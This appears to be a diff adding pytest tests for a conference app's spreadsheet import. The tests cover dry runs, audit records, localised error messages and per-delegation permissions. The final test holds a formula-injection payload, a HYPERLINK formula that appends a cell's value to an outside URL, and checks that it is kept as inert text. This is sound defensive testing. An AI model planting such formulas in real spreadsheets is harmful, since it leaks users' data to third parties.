@@ -1,0 +1,397 @@
+"""Workbooks, in: what an import says it would do, and that it does just that."""
+
+import io
+import zipfile
+
+import pytest
+from fastapi.testclient import TestClient
+from sqlalchemy import select
+from sqlalchemy.orm import Session
+
+from app.models import (
+    AuditEntry,
+    Conference,
+    ConferenceSession,
+    Delegate,
+    Delegation,
+    Need,
+    Offering,
+    Role,
+    Wish,
+)
+from tests.api.answers import API, NOBODY, assert_invalid, assert_problem
+from tests.api.people import People
+from tests.api.workbook_desk import (
+    HANOI,
+    JAPAN,
+    KOREA,
+    UNTOUCHED,
+    carried,
+    counts,
+    exported,
+    load_reference,
+    send,
+    submitted,
+)
+from tests.factories import (
+    a_membership,
+    an_account,
+    an_organisation,
+)
+from tests.workbooks import Draft
+
+VIETNAMESE = {"Accept-Language": "vi"}
+
+
+@pytest.fixture
+def delegations(db: Session, session: ConferenceSession) -> dict[str, Delegation]:
+    return submitted(db, session)
+
+
+@pytest.mark.usefixtures("delegations")
+def test_import_of_what_was_exported_changes_nothing(client: TestClient, db: Session, conference: Conference) -> None:
+    before = db.scalars(select(AuditEntry.id)).all()
+
+    report = carried(client, conference, exported(client, conference))
+
+    assert (report["sheets"], report["changes"], report["ignored_sheets"]) == (UNTOUCHED, [], [])
+    entries = db.scalars(select(AuditEntry).where(AuditEntry.id.not_in(before))).all()
+    assert [entry.action for entry in entries] == ["workbook.imported"]
+    assert {need.revision for need in db.scalars(select(Need))} == {1}
+
+
+@pytest.mark.usefixtures("delegations")
+def test_import_changes_what_was_edited_and_that_alone(client: TestClient, db: Session, conference: Conference) -> None:
+    draft = Draft.of(exported(client, conference))
+    draft.set("Needs", 2, Vietnamese_title="Xuất khẩu gạo ST25", Priority=3)
+    draft.add("Needs", {"Delegation": "Nhật Bản", "Reference": "N1", "Vietnamese title": "Tìm thợ lành nghề"})
+    draft.set("Offerings", 2, Delete="x")
+
+    report = carried(client, conference, draft.saved())
+
+    assert report["sheets"] == [
+        *UNTOUCHED[:3],
+        counts("needs", "Needs", created=1, changed=1),
+        counts("offerings", "Offerings", deleted=1),
+        UNTOUCHED[5],
+    ]
+    assert report["changes"] == [
+        {
+            "sheet": "Needs",
+            "row": 2,
+            "name": f"{HANOI}, N1",
+            "action": "changed",
+            "cells": [
+                {"cell": "E2", "heading": "Priority", "before": "1", "after": "3"},
+                {
+                    "cell": "F2",
+                    "heading": "Vietnamese title",
+                    "before": "Xuất khẩu gạo thơm",
+                    "after": "Xuất khẩu gạo ST25",
+                },
+            ],
+        },
+        {"sheet": "Needs", "row": 3, "name": f"{JAPAN}, N1", "action": "created", "cells": []},
+        {"sheet": "Offerings", "row": 2, "name": f"{KOREA}, O1", "action": "deleted", "cells": []},
+    ]
+    needs = db.scalars(select(Need).order_by(Need.title_vi)).all()
+    assert [(need.title_vi, need.priority) for need in needs] == [
+        ("Tìm thợ lành nghề", 1),
+        ("Xuất khẩu gạo ST25", 3),
+    ]
+    assert db.scalars(select(Offering)).all() == []
+
+
+def test_delegates_are_changed_and_added(
+    client: TestClient, db: Session, conference: Conference, delegations: dict[str, Delegation]
+) -> None:
+    membership = a_membership(db, an_account(db), conference, Role.MEMBER, delegations["01"])
+    known = db.scalars(select(Delegate)).one()
+    known.membership_id = membership.id
+    db.commit()
+    draft = Draft.of(exported(client, conference))
+    draft.type("Delegates", 2, {"Languages spoken": "en; vi", "Telephone": "0912"})
+    draft.add("Delegates", {"Delegation": HANOI, "Name of the delegate": "Trần Bình", "E-mail": "none"})
+
+    problems = [(each["cell"], each["detail"]) for each in send(client, conference, draft.saved()).json()["problems"]]
+    assert problems == [
+        ("I2", "A telephone number is like +84 24 3799 2000, with the country and without an extension"),
+        ("H3", "An e-mail address is like name@example.vn"),
+    ]
+    draft.type("Delegates", 2, {"Telephone": None}).type("Delegates", 3, {"E-mail": "binh@example.vn"})
+    carried(client, conference, draft.saved())
+
+    db.expire_all()
+    first, second = db.scalars(select(Delegate).order_by(Delegate.position)).all()
+    assert (first.languages, first.phone, first.membership_id) == (["en", "vi"], None, membership.id)
+    assert (second.name, second.email, second.position) == ("Trần Bình", "binh@example.vn", first.position + 1)
+
+
+@pytest.mark.usefixtures("delegations")
+def test_import_is_recorded_row_by_row_and_as_a_whole(client: TestClient, db: Session, conference: Conference) -> None:
+    draft = Draft.of(exported(client, conference)).set("Needs", 2, Priority=3)
+
+    carried(client, conference, draft.saved())
+
+    entries = {entry.action: entry for entry in db.scalars(select(AuditEntry))}
+    changed, whole = entries["need.changed"], entries["workbook.imported"]
+    assert (changed.before, changed.after) == ({"priority": 1}, {"priority": 3})
+    assert whole.conference_id == conference.id
+    assert whole.after is not None
+    assert whole.after["needs"] == {"created": 0, "changed": 1, "deleted": 0}
+    assert len(whole.after["file_sha256"]) == 64
+
+
+@pytest.mark.usefixtures("delegations")
+def test_dry_run_does_nothing(client: TestClient, db: Session, conference: Conference) -> None:
+    draft = Draft.of(exported(client, conference)).set("Needs", 2, Priority=3)
+    before = db.scalars(select(AuditEntry.id)).all()
+
+    report = send(client, conference, draft.saved()).json()
+
+    assert report["sheets"][3] == counts("needs", "Needs", changed=1)
+    assert [need.priority for need in db.scalars(select(Need))] == [1]
+    assert db.scalars(select(AuditEntry.id)).all() == before
+
+
+@pytest.mark.usefixtures("delegations")
+def test_dry_run_tells_each_problem_in_the_readers_language(client: TestClient, conference: Conference) -> None:
+    draft = Draft.of(exported(client, conference, language="vi"))
+    draft.type("Nhu cầu", 2, {"Thứ tự ưu tiên": "cao", "Lĩnh vực": "AGR; UFO"})
+
+    report = send(client, conference, draft.saved(), headers=VIETNAMESE).json()
+
+    assert report["confirmation"] is None
+    assert report["problems"] == [
+        {"sheet": "Nhu cầu", "cell": "E2", "detail": "Ô này phải là số nguyên, không phải “cao”."},
+        {"sheet": "Nhu cầu", "cell": "K2", "detail": "“UFO” không có trong danh sách “Lĩnh vực”."},
+    ]
+
+
+@pytest.mark.usefixtures("delegations")
+def test_import_with_a_problem_does_nothing(client: TestClient, db: Session, conference: Conference) -> None:
+    draft = Draft.of(exported(client, conference)).set("Needs", 2, Priority=3).set("Offerings", 2, Priority=0)
+
+    response = send(client, conference, draft.saved(), dry_run=False, confirms="0" * 64)
+
+    problem = {
+        "pointer": "",
+        "detail": "Input should be greater than or equal to 1",
+        "in": "body",
+        "sheet": "Offerings",
+        "cell": "E2",
+    }
+    assert_problem(response, 422, "invalid", "Nothing was imported; see `errors` for every cell.", errors=[problem])
+    assert [need.priority for need in db.scalars(select(Need))] == [1]
+
+
+@pytest.mark.usefixtures("delegations")
+def test_import_confirms_a_dry_run(client: TestClient, conference: Conference) -> None:
+    response = send(client, conference, exported(client, conference), dry_run=False)
+
+    assert_invalid(response, ("", "An import confirms a dry run"), where="query")
+
+
+@pytest.mark.usefixtures("delegations")
+def test_import_refuses_another_file_than_the_dry_run_saw(client: TestClient, conference: Conference) -> None:
+    draft = Draft.of(exported(client, conference)).set("Needs", 2, Priority=3)
+    confirmation = send(client, conference, draft.saved()).json()["confirmation"]
+
+    response = send(client, conference, draft.set("Needs", 2, Priority=4).saved(), dry_run=False, confirms=confirmation)
+
+    detail = "The file, or a row that it changes, is not what it was: do the dry run again."
+    assert_problem(response, 409, "import-changed", detail)
+
+
+@pytest.mark.usefixtures("delegations")
+def test_import_refuses_what_has_changed_since_the_dry_run(
+    client: TestClient, db: Session, conference: Conference
+) -> None:
+    data = Draft.of(exported(client, conference)).set("Needs", 2, Delete="x").saved()
+    confirmation = send(client, conference, data).json()["confirmation"]
+    need = db.scalars(select(Need)).one()
+    body = {"code": "N1", "title_vi": "Đổi ý"}
+    assert client.put(f"{API}/needs/{need.id}", json=body).status_code == 200
+
+    response = send(client, conference, data, dry_run=False, confirms=confirmation)
+
+    problem = {
+        "pointer": "",
+        "detail": "This was changed after the file was exported: export it again and start from there.",
+        "in": "body",
+        "sheet": "Needs",
+        "cell": "D2",
+    }
+    assert_problem(response, 422, "invalid", errors=[problem])
+
+
+@pytest.mark.usefixtures("delegations")
+def test_import_again_is_refused(client: TestClient, conference: Conference) -> None:
+    draft = Draft.of(exported(client, conference))
+    draft.add("Needs", {"Delegation": JAPAN, "Reference": "N1", "Vietnamese title": "Tìm thợ lành nghề"})
+    carried(client, conference, draft.saved())
+    confirmation = "0" * 64
+
+    response = send(client, conference, draft.saved(), dry_run=False, confirms=confirmation)
+
+    assert_problem(response, 409, "import-changed")
+    assert send(client, conference, draft.saved()).json()["sheets"][3] == counts("needs", "Needs", unchanged=2)
+
+
+def test_import_makes_a_conference_from_a_template(
+    client: TestClient, db: Session, session: ConferenceSession, conference: Conference
+) -> None:
+    load_reference(db)
+    for code, name in (("01", "Hà Nội"), ("EMB-KR", "Hàn Quốc")):
+        an_organisation(db, code, label_vi=name, label_en=name)
+    draft = Draft.of(exported(client, conference, template=True, language="vi"))
+    for name, side in (("Hà Nội", "province"), ("EMB-KR", "mission")):
+        draft.add("Danh sách đoàn", {"Cơ quan, tổ chức": name, "Bên": side})
+    first_slot = next(text for text in draft.sheets["Khung giờ không gặp được"].values() if text.startswith("s01"))
+    draft.add("Khung giờ không gặp được", {"Cơ quan, tổ chức": "ha noi", first_slot: "x"})
+    draft.add("Nhu cầu", {"Đoàn": "01", "Ký hiệu": "N1", "Tiêu đề tiếng Việt": "Gạo", "Lĩnh vực": "Nông nghiệp\nLOG"})
+    draft.add("Nguyện vọng", {"Đoàn nêu nguyện vọng": "Hàn Quốc", "Đoàn được nêu": "01", "Nguyện vọng": "Không gặp"})
+
+    report = carried(client, conference, draft.saved())
+
+    assert [each["created"] for each in report["sheets"]] == [2, 1, 0, 1, 0, 1]
+    listed = client.get(f"{API}/conferences/{conference.id}/delegations").json()["items"]
+    assert [(each["organisation"]["code"], len(each["unavailable_slot_ids"])) for each in listed] == [
+        ("EMB-KR", 0),
+        ("01", 1),
+    ]
+    needs = client.get(f"{API}/delegations/{listed[1]['id']}/needs").json()["items"]
+    assert [(need["title_vi"], need["sector_codes"]) for need in needs] == [("Gạo", ["AGR", "LOG"])]
+    wishes = client.get(f"{API}/sessions/{session.id}/wishes").json()["items"]
+    assert [(wish["delegation_id"], wish["kind"], wish["rank"]) for wish in wishes] == [
+        (listed[0]["id"], "do_not_meet", None)
+    ]
+
+
+@pytest.mark.usefixtures("delegations")
+def test_wishes_change_places(client: TestClient, db: Session, conference: Conference) -> None:
+    draft = Draft.of(exported(client, conference))
+    draft.type("Wishes", 2, {"Rank of the wish": 2}).type("Wishes", 3, {"Rank of the wish": 1})
+
+    carried(client, conference, draft.saved())
+
+    ranks = {wish.target_id: wish.rank for wish in db.scalars(select(Wish))}
+    assert sorted(rank or 0 for rank in ranks.values()) == [1, 2]
+    changes = [
+        (entry.before, entry.after) for entry in db.scalars(select(AuditEntry)) if entry.action == "wish.changed"
+    ]
+    assert sorted(changes, key=str) == [({"rank": 1}, {"rank": 2}), ({"rank": 2}, {"rank": 1})]
+
+
+def test_delegation_imports_its_own_part(
+    people: People, db: Session, conference: Conference, delegations: dict[str, Delegation]
+) -> None:
+    client = people.of(conference, Role.HEAD, delegations["01"])
+    draft = Draft.of(exported(client, conference)).set("Needs", 2, Priority=2)
+    # Whose it is goes without saying.
+    draft.add("Needs", {"Reference": "N2", "Vietnamese title": "Tìm nhà đầu tư"})
+
+    carried(client, conference, draft.saved())
+
+    needs = db.scalars(select(Need).order_by(Need.code)).all()
+    assert [(need.code, need.priority, need.delegation_id) for need in needs] == [
+        ("N1", 2, delegations["01"].id),
+        ("N2", 1, delegations["01"].id),
+    ]
+
+
+def test_delegation_can_touch_nothing_of_others(
+    client: TestClient, people: People, db: Session, conference: Conference, delegations: dict[str, Delegation]
+) -> None:
+    """Not even in a workbook that an organiser has handed on with all that is there."""
+    draft = Draft.of(exported(client, conference))
+    draft.set("Offerings", 2, Vietnamese_title="Overwritten")
+    draft.add("Offerings", {"Delegation": KOREA, "Reference": "O2", "Vietnamese title": "In somebody's name"})
+    draft.type("List of delegations", 2, {"Teams": 9})
+
+    report = send(people.of(conference, Role.HEAD, delegations["01"]), conference, draft.saved()).json()
+
+    assert report["problems"] == [
+        {
+            "sheet": "Offerings",
+            "cell": "C2",
+            "detail": f"“{KOREA}” is not in the list “Who submits”.",
+        },
+        {
+            "sheet": "Offerings",
+            "cell": "C3",
+            "detail": f"“{KOREA}” is not in the list “Who submits”.",
+        },
+    ]
+    assert report["ignored_sheets"] == ["List of delegations", "Unavailable slots"]
+    assert [offering.title_vi for offering in db.scalars(select(Offering))] == ["Secret buyer"]
+
+
+def test_delegation_learns_nothing_of_ids_that_are_not_its_own(
+    people: People, db: Session, conference: Conference, delegations: dict[str, Delegation]
+) -> None:
+    client = people.of(conference, Role.HEAD, delegations["01"])
+    draft = Draft.of(exported(client, conference))
+    offering = db.scalars(select(Offering)).one()
+    answers = []
+    for number in (offering.id, NOBODY):
+        row = draft.add("Offerings", {"Delegation": HANOI, "Reference": "O1", "Vietnamese title": "Mine"})
+        draft.sheets["Offerings"][f"A{row}"] = str(number)
+        answers.append(send(client, conference, draft.saved()).json()["problems"])
+        draft.sheets["Offerings"] = {k: v for k, v in draft.sheets["Offerings"].items() if not k.endswith(str(row))}
+
+    detail = "This row is not there any more: empty its hidden id to add it anew."
+    assert answers == [[{"sheet": "Offerings", "cell": "D2", "detail": detail}]] * 2
+
+
+@pytest.mark.parametrize("role", [Role.DESK, Role.VIEWER])
+def test_import_is_for_editors_and_delegations(
+    client: TestClient, people: People, conference: Conference, role: Role
+) -> None:
+    response = send(people.of(conference, role), conference, exported(client, conference))
+
+    assert_problem(response, 403, "forbidden")
+
+
+def test_import_refuses_what_is_no_workbook(client: TestClient, conference: Conference) -> None:
+    response = send(client, conference, "Đoàn;Mã\n01;N1\n".encode())
+
+    assert_problem(
+        response,
+        422,
+        "invalid",
+        "This is not a spreadsheet. CSV and other text files lose letters, zeros and dates on their way: "
+        "open the file in Excel or LibreOffice and save it as .xlsx or .ods.",
+    )
+
+
+def test_import_needs_a_file(client: TestClient, conference: Conference) -> None:
+    response = client.post(f"{API}/conferences/{conference.id}/workbook-imports")
+
+    assert_invalid(response, ("/file", "Field required"))
+
+
+@pytest.mark.usefixtures("delegations")
+def test_sheets_that_are_not_known_are_named(client: TestClient, conference: Conference) -> None:
+    draft = Draft.of(exported(client, conference))
+    draft.sheets["Notes of the office"] = {"A1": "Call Seoul"}
+
+    report = carried(client, conference, draft.saved())
+
+    assert report["ignored_sheets"] == ["Notes of the office"]
+
+
+@pytest.mark.usefixtures("delegations")
+def test_what_looks_like_a_formula_goes_in_and_out_as_text(
+    client: TestClient, db: Session, conference: Conference
+) -> None:
+    text = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
+    draft = Draft.of(exported(client, conference)).set("Needs", 2, Vietnamese_title=text)
+
+    carried(client, conference, draft.saved())
+
+    assert [need.title_vi for need in db.scalars(select(Need))] == [text]
+    again = exported(client, conference)
+    assert Draft.of(again).row("Needs", 2)["Vietnamese title"] == text
+    with zipfile.ZipFile(io.BytesIO(again)) as archive:
+        assert not any(b"<f>" in archive.read(name) for name in archive.namelist() if "worksheets" in name)
